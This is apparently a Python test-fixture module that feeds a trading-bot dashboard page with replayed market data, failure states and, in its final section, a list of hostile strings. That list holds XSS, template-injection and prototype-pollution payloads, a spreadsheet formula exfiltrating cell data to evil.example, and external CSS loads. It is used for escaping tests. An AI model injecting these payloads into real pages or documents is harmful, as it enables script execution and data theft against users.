"""A desk for the page's tests: four bots that really hold the bundled candles, and hostile twins of everything named.

`PlayedDesk` is a real source of DashboardData in this process: each call moves its market on by a bar.
"""

from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta

import numpy as np

from workbench.domain.commands import Lease
from workbench.domain.desk import BotRow, DashboardData, DeskState, Health, MarketClock, Totals
from workbench.domain.events import Event
from workbench.domain.portfolio import BotState, BotStatus, EquityPoint, Money, MoneyMode, Position
from workbench.market import sample

BOTS = ("trend", "mean_reversion", "breakout", "learning")
TAGS = {"trend": ("research", "long only"), "learning": ("research", "gradient boosting")}
CASH = 10_000.0
CAPABILITIES = ("status", "forecast", "plan", "tune", "analyze", "trades", "equity", "pause", "resume")


@dataclass
class PlayedDesk:
    """Market time moves a bar per call, from `start` bars into the sample. `rate` calls make one bar."""

    start: int = 9230
    history: int = 300
    calls: int = 0
    change: object = None  # (DashboardData) -> DashboardData, or raises
    events: list[Event] = field(default_factory=list)

    def __post_init__(self):
        self.candles = sample.load_all()
        self.symbols = tuple(sorted(self.candles))[: len(BOTS)]
        closes = {s: self.candles[s]["close"].to_numpy() for s in self.symbols}
        self.times = self.candles[self.symbols[0]].index.to_pydatetime()
        self.closes = {bot: closes[symbol] for bot, symbol in zip(BOTS, self.symbols, strict=True)}

    async def get_unified_dashboard_data(self) -> DashboardData:
        self.calls += 1
        data = glance(self, self.start + self.history + self.calls)
        return self.change(data) if self.change else data


def glance(desk: PlayedDesk, bar: int) -> DashboardData:
    """The desk at `bar`: each bot bought half its cash of its coin at the first bar, and sold and bought since."""
    now = datetime.now(UTC)
    lines = {bot: equity_line(desk, bot, bar) for bot in BOTS}
    total = np.sum([values for values in lines.values()], axis=0)
    times = desk.times[bar - len(total) : bar]
    rows = tuple(row(desk, bot, lines[bot], bar, now) for bot in BOTS)
    points = {bot: _points(times, values) for bot, values in lines.items()} | {"total": _points(times, total)}
    clock = MarketClock(MoneyMode.REPLAY, times[-1], 900.0, False, "replay-1", "replay", "30m", desk.symbols)
    return DashboardData(
        as_of=now,
        state=DeskState.ACTIVE,
        desk=Lease("desk", "desk-4711", 3, now + timedelta(seconds=20)),
        market=clock,
        total=totals(total),
        bots=rows,
        equity=points,
        events=tuple(desk.events or events(desk, bar, now)),
    )


def totals(total) -> Totals:
    cash = CASH * len(BOTS)
    return Totals(usd(total[-1]), usd(total[-1] - cash), usd(total[-1] - total[max(-48, -len(total))]))


def equity_line(desk, bot, bar):
    closes = desk.closes[bot][bar - desk.history - desk.calls : bar]
    exposure = 0.5 + 0.4 * np.sin(np.arange(len(closes)) / (23 + 11 * BOTS.index(bot)))
    gains = np.diff(closes, prepend=closes[0]) / closes * exposure
    return CASH * np.cumprod(1 + gains)


def row(desk, bot, line, bar, now) -> BotRow:
    price = float(desk.closes[bot][bar - 1])
    held = Position(
        symbol=desk.symbols[BOTS.index(bot)],
        amount=round(CASH * 0.4 / price, 6),
        entry_price=float(desk.closes[bot][bar - 30]),
        mark_price=price,
        opened_at=desk.times[bar - 30],
        stop=None if bot == "learning" else round(price * 0.96, 4),
    )
    status = BotStatus(
        bot_id=bot,
        state=BotState.RUNNING,
        mode=MoneyMode.REPLAY,
        gated=False,
        equity=usd(line[-1]),
        pnl=usd(line[-1] - CASH),
        day_pnl=usd(line[-1] - line[-48]),
        realised=usd((line[-1] - CASH) * 0.7),
        positions=(held,) if bot != "breakout" else (),
        trade_count=31 + 7 * BOTS.index(bot) + bar // 40,
        ready=True,
        market_time=desk.times[bar - 1],
        data_at=now - timedelta(seconds=0.4),
        as_of=now,
        detail="holds while the fast average is above the slow one" if bot == "trend" else "",
    )
    health = Health(True, True, True, data_age_s=0.4, latency_ms=6.0)
    return BotRow(bot, health, status, TAGS.get(bot, ("research",)), CAPABILITIES)


def events(desk, bar, now) -> list[Event]:
    kinds = (
        ("OrderFilled", {"bot": "trend", "side": "buy", "amount": 0.31, "symbol": "BTC/USD", "price": 6512.3}),
        ("TradeClosed", {"bot": "breakout", "symbol": "LTC/USD", "pnl": -12.4, "reason": "stop"}),
        ("BotAnnounced", {"bot": "learning", "url": "http://127.0.0.1:40123"}),
        ("CommandDone", {"command": "pause", "bot": "mean_reversion"}),
    )
    return [_event(n, *kinds[n % len(kinds)], now - timedelta(seconds=7 * (bar - n))) for n in range(bar - 12, bar)]


def _event(seq, kind, payload, at) -> Event:
    return Event(seq, kind, payload.get("bot", "desk"), payload, f"e{seq}", at)


def usd(amount) -> Money:
    return Money(float(amount), "USD")


def _points(times, values) -> tuple[EquityPoint, ...]:
    return tuple(EquityPoint(at, float(v), "USD") for at, v in zip(times, values, strict=True))


# -- the same desk in trouble ------------------------------------------------------------------------------------------


def not_running(data: DashboardData) -> DashboardData:
    """Nobody leads, the venue is silent, no bot was ever heard."""
    return replace(
        data, desk=None, market=None, bots=(), equity={}, events=(), total=Totals(None, None, None, "no bot")
    )


def empty(data: DashboardData) -> DashboardData:
    """A running desk without bots."""
    return replace(data, bots=(), equity={}, events=(), total=Totals(None, None, None, "no bot is registered"))


def troubled(data: DashboardData) -> DashboardData:
    """One bot stale, one down and never heard, one paused and not ready; the sum is therefore unknown."""
    trend, reversion, breakout, learning = data.bots
    stale = Health(True, True, False, 94.0, 7.0, "its newest candle is 94 s old, 20 s is the limit")
    down = Health(False, False, False, None, None, "http://127.0.0.1:40111 does not answer: connection refused")
    warming = Health(True, False, True, 0.5, 4.0, "warming up, 120 of 400 bars")
    old = replace(trend.status, data_at=data.as_of - timedelta(seconds=94))
    bots = (
        replace(trend, health=stale, status=old),
        replace(reversion, health=down, status=None),
        replace(breakout, health=warming, status=replace(breakout.status, state=BotState.PAUSED)),
        learning,
    )
    return replace(data, bots=bots, desk=None, total=Totals(None, None, None, "mean_reversion was never heard"))


def hostile(data: DashboardData) -> DashboardData:
    """Everything that has a name is named by an enemy."""
    bots = tuple(replace(row, bot_id=evil(i)) for i, row in enumerate(data.bots))
    bots = tuple(replace(row, status=_named_by_enemy(row.status, i), tags=(evil(i),)) for i, row in enumerate(bots))
    points = {evil(i): line for i, line in enumerate(data.equity.values())} | {"total": data.equity["total"]}
    told = [
        Event(i, evil(i), evil(i + 1), {evil(i): evil(i + 2), "words": evil(i)}, f"x{i}", data.as_of) for i in range(60)
    ]
    clock = replace(data.market, source=evil(3), run_id=evil(4))
    return replace(data, bots=bots, equity=points, events=tuple(told), market=clock)


def _named_by_enemy(status: BotStatus, i: int) -> BotStatus:
    held = tuple(replace(position, symbol=evil(i)) for position in status.positions)
    money = Money(1.0, evil(i))
    return replace(status, positions=held, detail=evil(i), realised=money)


EVIL = (
    '<img src=x onerror="window.fired=1">',
    "<script>window.fired=1</script>",
    '"><svg onload=window.fired=1>',
    "__proto__",
    "constructor",
    "javascript:window.fired=1",
    "<iframe srcdoc='<script>parent.fired=1</script>'>",
    "{{constructor.constructor('window.fired=1')()}}",
    "${window.fired=1}",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "' onmouseover='window.fired=1",
    "\u202egnp.exe<b>",
    "</style><style>*{background:url(http://evil.example/x)}",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<a href=http://evil.example>x</a>",
    "\ud800 lone surrogate\x00\x1b[31m",
    "x" * 5000,
)


def evil(i: int) -> str:
    return EVIL[i % len(EVIL)]
